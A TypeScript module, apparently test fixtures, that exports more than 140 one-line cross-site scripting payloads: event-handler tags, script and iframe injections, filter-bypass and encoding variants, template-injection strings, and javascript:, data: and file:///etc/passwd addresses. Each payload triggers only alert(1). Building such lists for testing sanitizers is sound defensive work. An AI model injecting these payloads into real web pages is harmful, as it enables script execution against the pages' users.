// Markup and addresses that run a script wherever a page takes what people write for anything but text.

const CALL = 'alert(1)'
const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'select autofocus',
  'details open',
  'marquee',
  'video src=x',
  'audio src=x',
  'iframe',
  'object data=x',
  'style',
  'math',
  'a href=x',
]
const HANDLERS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onmouseover', 'onanimationstart']
const WHOLE = [
  `<script>${CALL}</script>`,
  `<script src=data:text/javascript,${CALL}></script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set onbegin=${CALL} attributeName=x>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<object data="data:text/html,<script>${CALL}</script>"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<form action="javascript:${CALL}"><button>x</button></form>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<base href="javascript:${CALL}//">`,
  `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${CALL})}">`,
  `"><img src=x onerror=${CALL}>`,
  `'><img src=x onerror=${CALL}>`,
  `</textarea><img src=x onerror=${CALL}>`,
  `</title><script>${CALL}</script>`,
  `--><script>${CALL}</script>`,
  `]]><script>${CALL}</script>`,
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `{"__html":"<img src=x onerror=${CALL}>"}`,
  `&lt;img src=x onerror=${CALL}&gt;`,
  `\\u003cimg src=x onerror=${CALL}\\u003e`,
  `%3Cimg src=x onerror=${CALL}%3E`,
  `<IMG SRC=x ONERROR=${CALL}>`,
  `<img/src=x/onerror=${CALL}>`,
  `<img\tsrc=x\tonerror=${CALL}>`,
  `<img src=\`x\` onerror=${CALL}>`,
  `<img src=x onerror="&#97;lert(1)">`,
]
const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `javascript://example.com/%0a${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:${CALL}`,
  `blob:https://example.com/x`,
  `file:///etc/passwd`,
  `[x](javascript:${CALL})`,
  `![x](x"onerror="${CALL})`,
  `<javascript:${CALL}>`,
]

/** More than a hundred and forty, each of one line. */
export const HOSTILE_MARKUP: readonly string[] = [
  ...ELEMENTS.flatMap(element => HANDLERS.map(handler => `<${element} ${handler}=${CALL}>`)),
  ...WHOLE,
  ...ADDRESSES,
]
/** Short enough for the name of a user or a room. */
export const HOSTILE_NAME = `<img src=x onerror=${CALL}>`
